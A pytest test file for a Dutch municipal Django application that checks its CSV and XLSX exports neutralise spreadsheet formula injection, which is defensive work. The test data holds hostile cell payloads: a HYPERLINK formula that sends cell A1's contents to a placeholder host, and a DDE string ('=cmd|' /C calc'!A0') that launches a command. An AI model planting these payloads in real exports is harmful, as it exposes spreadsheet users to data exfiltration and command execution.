"""Exports never hand a spreadsheet a formula: every CSV and XLSX goes through core/export.py,
which quotes text that starts with =, +, -, @, tab or CR, and stores XLSX text as strings."""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from iwerk.core import export
from iwerk.core.testing import catalogus as build
from iwerk.core.testing import zaken as bouw
from iwerk.core.testing.medewerkers import demo_medewerker, sign_in

HOSTIEL = [
    '=HYPERLINK("http://x.invalid/?"&A1;"klik")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
GETAL = re.compile(r"-\d+(,\d+)?")


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    tekst = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(tekst), delimiter=";"))


def _xlsx(response):
    assert response.status_code == 200, response.content[:500]
    return load_workbook(io.BytesIO(response.content))


def _veilig_csv(rijen: list[list[str]], *verwacht: str) -> None:
    cellen = [c for rij in rijen for c in rij]
    for cel in cellen:  # only a number may start with a minus sign
        assert not cel.startswith(export.FORMULETEKENS) or GETAL.fullmatch(cel), repr(cel)
    for waarde in verwacht:
        assert "'" + waarde in cellen, (waarde, cellen[:40])


def _veilig_xlsx(boek, *verwacht: str) -> None:
    gevonden = set()
    for blad in boek.worksheets:
        for rij in blad.iter_rows():
            for cel in rij:
                if isinstance(cel.value, str):
                    assert cel.data_type == "s", (cel.coordinate, cel.value)
                    assert not cel.value.startswith(export.FORMULETEKENS), repr(cel.value)
                    gevonden.add(cel.value)
    for waarde in verwacht:
        assert "'" + waarde in gevonden, (waarde, sorted(gevonden)[:40])


# The writer itself.


@pytest.mark.parametrize("waarde", HOSTIEL)
def test_text_that_a_spreadsheet_would_run_is_quoted_and_comes_back_as_it_was(waarde):
    assert export.neutraliseren(waarde) == "'" + waarde
    assert export.terugzetten(export.neutraliseren(waarde)) == waarde


@pytest.mark.parametrize("waarde", ["Jan de Vries", "", "'quote", "'=al gequote", "''+x", "a=b"])
def test_a_round_trip_through_the_writer_never_grows_or_loses_quotes(waarde):
    assert export.terugzetten(export.neutraliseren(waarde)) == waarde
    gevaarlijk = export.neutraliseren(waarde).lstrip("'")[:1] in export.FORMULETEKENS
    assert not gevaarlijk or export.neutraliseren(waarde).startswith("'")


def test_numbers_and_dates_keep_their_type_only_text_is_quoted():
    rij = [-12, Decimal("-3.50"), -1.5, date(2026, 1, 2), None, "-1+1", "tekst"]
    tekst = export.csv_tekst([rij], opmaak=lambda w: str(w).replace(".", ","))
    assert tekst.strip() == "-12;-3,50;-1,5;2026-01-02;;'-1+1;tekst"
    blad = load_workbook(io.BytesIO(export.xlsx_bytes([export.Blad("b", [rij])]))).active
    cellen = list(blad.iter_rows())[0]
    assert [c.value for c in cellen[:3]] == [-12, -3.5, -1.5] and cellen[0].data_type == "n"
    assert cellen[3].value.date() == date(2026, 1, 2) and cellen[3].is_date
    assert cellen[5].value == "'-1+1" and cellen[5].data_type == "s"


def test_xlsx_never_stores_text_as_a_formula_or_an_error():
    inhoud = export.xlsx_bytes([export.Blad("b", [[*HOSTIEL, "#N/A", "a\x01b"]])])
    cellen = list(load_workbook(io.BytesIO(inhoud)).active.iter_rows())[0]
    assert all(c.data_type == "s" for c in cellen)
    # (Without lxml, openpyxl's XML reader gives a carriage return back as a line feed; with lxml
    # it comes back as written. Either way the cell is quoted text.)
    verwacht = ["'" + w.replace("\r", "\n") for w in HOSTIEL] + ["#N/A", "ab"]
    assert [c.value.replace("\r", "\n") for c in cellen] == verwacht


# Nothing writes CSV or XLSX around core/export.py.

IWERK = Path(__file__).resolve().parents[2]
EIGEN = IWERK / "core" / "export.py"
VERBODEN_AANROEPEN = {"writer", "DictWriter", "Workbook", "WriteOnlyCell"}
VERBODEN_TEKST = ("text/csv", "spreadsheetml")


def test_no_module_writes_csv_or_xlsx_without_the_neutralising_writer():
    overtredingen = []
    for pad in sorted(IWERK.rglob("*.py")):
        if pad == EIGEN or "tests" in pad.parts or "migrations" in pad.parts:
            continue
        boom = ast.parse(pad.read_text(encoding="utf-8"))
        for knoop in ast.walk(boom):
            plek = f"{pad.relative_to(IWERK.parent)}:{getattr(knoop, 'lineno', '?')}"
            if isinstance(knoop, ast.ImportFrom) and knoop.module:
                namen = {a.name for a in knoop.names}
                verboden = set()
                if knoop.module.split(".")[0] in ("openpyxl", "xlsxwriter"):
                    verboden = namen - {"load_workbook"}  # reading an import is allowed
                elif knoop.module == "csv":
                    verboden = namen & VERBODEN_AANROEPEN
                if verboden:
                    overtredingen.append(f"{plek} imports {sorted(verboden)} from {knoop.module}")
            elif isinstance(knoop, ast.Import):
                for alias in knoop.names:
                    if alias.name.split(".")[0] in ("openpyxl", "xlsxwriter"):
                        overtredingen.append(f"{plek} imports {alias.name}")
            elif (
                isinstance(knoop, ast.Attribute)
                and knoop.attr in VERBODEN_AANROEPEN
                and isinstance(knoop.value, ast.Name)
                and knoop.value.id in ("csv", "openpyxl")
            ):
                overtredingen.append(f"{plek} uses {knoop.value.id}.{knoop.attr}")
            elif (
                isinstance(knoop, ast.Constant)
                and isinstance(knoop.value, str)
                and any(t in knoop.value for t in VERBODEN_TEKST)
            ):
                overtredingen.append(f"{plek} builds a {knoop.value!r} response")
    assert not overtredingen, "Write CSV/XLSX through iwerk.core.export:\n" + "\n".join(
        overtredingen
    )


# Every export, with hostile text where it really comes from.


@pytest.fixture
def gemeenten_met_staf(gemeenten, werkplek_settings):
    """The three gemeenten and the demo's FG, functioneel beheerder and two managers."""
    for username in ("fg", "fbeheerder", "tbos", "gmulder"):
        demo_medewerker(gemeenten, username)
    return gemeenten


@pytest.mark.django_db
def test_the_audit_csv_quotes_a_hostile_user_representation(gemeenten_met_staf):
    from iwerk.core.models import Inzage

    Inzage.objects.create(
        tenant=gemeenten_met_staf["deventer"], wanneer=timezone.now(), kanaal="api", soort="zaak",
        gebruikers_id="aanvaller", gebruikers_weergave=HOSTIEL[0], applicatie_id="@app",
        omschrijving="-1+1",
    )  # fmt: skip
    fg = sign_in("fg")
    fg.post("/werkplek/gemeente/", {"gemeente": gemeenten_met_staf["deventer"].pk})
    rijen = _csv(fg.get("/werkplek/audit/", {"persoon": "aanvaller", "formaat": "csv"}))
    _veilig_csv(rijen, HOSTIEL[0], "@app", "-1+1")


@pytest.fixture
def sturing(gemeenten_met_staf):
    from iwerk.sturing.models import Zaakfeit
    from iwerk.sturing.services.verversen import verversen

    zaaktype = build.gepubliceerd_zaaktype(build.catalogus(gemeenten_met_staf["deventer"]))
    for _ in range(2):
        bouw.zaak(zaaktype)
    verversen()
    Zaakfeit.objects.filter(tenant_id=gemeenten_met_staf["deventer"].pk).update(behandelaar="=1+1")
    return gemeenten_met_staf


@pytest.mark.django_db
@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_the_sturing_drill_down_quotes_a_hostile_behandelaar(sturing, formaat):
    response = sign_in("tbos").get(f"/werkplek/sturing/zaken/?soort=open&formaat={formaat}")
    if formaat == "csv":
        _veilig_csv(_csv(response), "=1+1")
    else:
        _veilig_xlsx(_xlsx(response), "=1+1")


@pytest.mark.django_db
def test_the_sturing_cost_tables_quote_hostile_text(gemeenten_met_staf):
    from iwerk.sturing.demo import load_kosten
    from iwerk.sturing.models import Besparingsdoel

    load_kosten()
    jaar = timezone.localdate().year - 1
    Besparingsdoel.objects.update_or_create(
        jaar=jaar, defaults={"doel": Decimal(-1), "gerealiseerd": 0, "toelichting": "+31 6 1234"}
    )
    client = sign_in("gmulder")
    rijen = _csv(client.get(f"/werkplek/sturing/kosten/export/besparing.csv?jaar={jaar}"))
    _veilig_csv(rijen, "+31 6 1234")
    assert [str(jaar), "-1,00"] in [r[:2] for r in rijen]  # a number is not quoted
    for url in ("besparing.xlsx", "alles.xlsx"):
        boek = _xlsx(client.get(f"/werkplek/sturing/kosten/export/{url}?jaar={jaar}"))
        _veilig_xlsx(boek, "+31 6 1234")
    assert -1 in [c.value for b in boek.worksheets for r in b.iter_rows() for c in r]


@pytest.mark.django_db
def test_the_ensia_incident_csv_quotes_a_hostile_name(gemeenten_met_staf):
    gemeenten_met_staf["deventer"].naam = "=Deventer"
    gemeenten_met_staf["deventer"].save(update_fields=["naam"])
    fg = sign_in("fg")
    fg.post("/werkplek/gemeente/", {"gemeente": gemeenten_met_staf["deventer"].pk})
    rijen = _csv(fg.get(f"/werkplek/incidenten/rapportage/?jaar={date.today().year}&formaat=csv"))
    _veilig_csv(rijen, "=Deventer")


@pytest.fixture
def portfolio(gemeenten_met_staf):
    from iwerk.portfolio.demo import load_portfolio
    from iwerk.portfolio.models import Applicatie, Gebruik, Referentiecomponent

    load_portfolio(list(gemeenten_met_staf.values()))
    app = Applicatie.objects.create(naam="=cmd|' /C calc'!A0", leverancier="@leverancier",
                                    versie="-1", kosten_per_jaar=Decimal(1000))  # fmt: skip
    app.componenten.add(Referentiecomponent.objects.create(gemma_id="x-1", naam="+component"))
    Gebruik.objects.create(
        applicatie=app,
        gemeente=gemeenten_met_staf["deventer"],
        sinds=date.today() - timedelta(days=400),
    )
    return gemeenten_met_staf


@pytest.mark.django_db
@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_the_softwarecatalogus_export_quotes_hostile_application_names(portfolio, formaat):
    client = sign_in("fbeheerder")
    client.post("/werkplek/gemeente/", {"gemeente": portfolio["deventer"].pk})
    response = client.get(f"/werkplek/portfolio/pakketoverzicht.{formaat}")
    waarden = ("=cmd|' /C calc'!A0", "@leverancier", "-1")
    if formaat == "csv":
        _veilig_csv(_csv(response), *waarden)
    else:
        _veilig_xlsx(_xlsx(response), *waarden)


@pytest.mark.django_db
@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_the_portfolio_cost_export_quotes_hostile_names(portfolio, formaat):
    client = sign_in("fbeheerder")
    client.post("/werkplek/gemeente/", {"gemeente": portfolio["deventer"].pk})
    response = client.get(f"/werkplek/portfolio/kosten.{formaat}")
    if formaat == "csv":
        _veilig_csv(_csv(response), "+component", "=cmd|' /C calc'!A0")
    else:
        _veilig_xlsx(_xlsx(response), "+component", "=cmd|' /C calc'!A0")


@pytest.mark.django_db
@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_an_exported_application_list_imports_as_it_was(portfolio, formaat):
    from iwerk.portfolio.models import Applicatie
    from iwerk.portfolio.services import lijst

    client = sign_in("fbeheerder")
    client.post("/werkplek/gemeente/", {"gemeente": portfolio["deventer"].pk})
    inhoud = client.get(f"/werkplek/portfolio/pakketoverzicht.{formaat}").content
    voor = set(Applicatie.objects.values_list("naam", "leverancier", "versie"))
    verslag = lijst.importeren(inhoud, f"pakketoverzicht.{formaat}", proef=False)
    assert verslag.gelukt, verslag.fouten[:5]
    assert set(Applicatie.objects.values_list("naam", "leverancier", "versie")) == voor
    assert Applicatie.objects.filter(naam="=cmd|' /C calc'!A0", versie="-1").exists()
